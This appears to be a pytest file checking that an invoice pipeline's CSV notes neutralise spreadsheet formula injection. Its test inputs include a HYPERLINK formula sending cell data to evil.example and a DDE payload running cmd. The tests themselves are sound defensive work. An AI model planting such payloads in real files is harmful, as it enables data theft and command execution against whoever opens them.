"""Notes are CSV files a person opens in a spreadsheet: cells that could run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from invoice_pipeline.domain.invoice_keys import InvoiceKey
from invoice_pipeline.domain.notes import Note
from invoice_pipeline.validation.notes import (
    csv_text,
    note_preview,
    notes_folder,
    spreadsheet_safe,
    write_note_files,
)


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("=1+1", id="equals"),
        pytest.param('=HYPERLINK("http://evil.example/?x="&A1,"click")', id="hyperlink"),
        pytest.param("+1", id="plus_number"),
        pytest.param("+cmd|' /C calc'!A0", id="plus_dde"),
        pytest.param("-2+3", id="minus_expression"),
        pytest.param("-1-1", id="minus_minus"),
        pytest.param("-", id="lone_minus"),
        pytest.param("-A1", id="minus_reference"),
        pytest.param("-1e5", id="minus_exponent"),
        pytest.param("@SUM(A1:A2)", id="at"),
        pytest.param("\t=1+1", id="tab"),
        pytest.param("=", id="lone_equals"),
    ],
)
def test_formula_starts_are_neutralised_with_a_leading_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["-12.50", "-180", "-0.0000000001", "12.50", "0", "U1", "SUB-AZ-1001", "a=b", "x+1", "tenant@example.com", ""],
)
def test_plain_values_and_negative_numbers_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_a_carriage_return_before_a_formula_is_shown_escaped_so_the_cell_is_text():
    assert spreadsheet_safe("\r=1+1") == "\\r=1+1"


def test_non_text_values_become_text():
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(Decimal("-180.00")) == "-180.00"
    assert spreadsheet_safe(-3) == "-3"
    assert spreadsheet_safe(Decimal("-1E+3")) == "'-1E+3"  # a Decimal shown in exponent form is not a plain number


def test_csv_text_neutralises_every_cell_and_stays_valid_csv():
    columns = ("line_id", "value")
    rows = [
        ("=cmd()", "-12.50"),
        ("U2", '=HYPERLINK("http://x","a, b")'),
        ("U3", None),
        ("@U4", "line one\nline two"),
    ]
    text = csv_text(columns, rows)
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed == [
        ["line_id", "value"],
        ["'=cmd()", "-12.50"],
        ["U2", '\'=HYPERLINK("http://x","a, b")'],
        ["U3", ""],
        ["'@U4", "line one\nline two"],
    ]
    assert text.startswith("line_id,value\n")


def test_csv_text_neutralises_hostile_column_names_too():
    assert csv_text(["=1+1"], []) == "'=1+1\n"


def test_a_nul_character_is_shown_as_text_so_the_note_can_be_stored_anywhere():
    assert spreadsheet_safe("Standard\x00D2s") == "Standard\\x00D2s"


def _errors_note(rows: int) -> Note:
    return Note(
        "Missing References",
        "errors.csv",
        csv_text(["reference_id", "line_count"], [[f"c{n}", n] for n in range(rows)]),
    )


def test_a_notes_preview_shows_its_first_rows_by_column_and_counts_them_all():
    preview = note_preview(_errors_note(25), limit=10)
    assert preview.columns == ["reference_id", "line_count"]
    assert preview.rows[0] == {"reference_id": "c0", "line_count": "0"} and len(preview.rows) == 10
    assert preview.row_count == 25


def test_an_empty_note_previews_as_no_columns_and_no_rows():
    assert note_preview(Note("Checksum", "line_totals.csv", "")).row_count == 0


def test_note_files_are_written_whole_under_one_folder_per_record(tmp_path):
    folder = notes_folder(tmp_path, InvoiceKey.parse("contoso-csp:G1"), "r-1")
    (path,) = write_note_files([_errors_note(3)], folder)
    assert path == (tmp_path / "notes" / "contoso-csp" / "G1" / "r-1" / "errors.csv").resolve()
    assert path.read_text(encoding="utf-8") == _errors_note(3).content
    assert [p.name for p in folder.iterdir()] == ["errors.csv"]  # no part file left behind
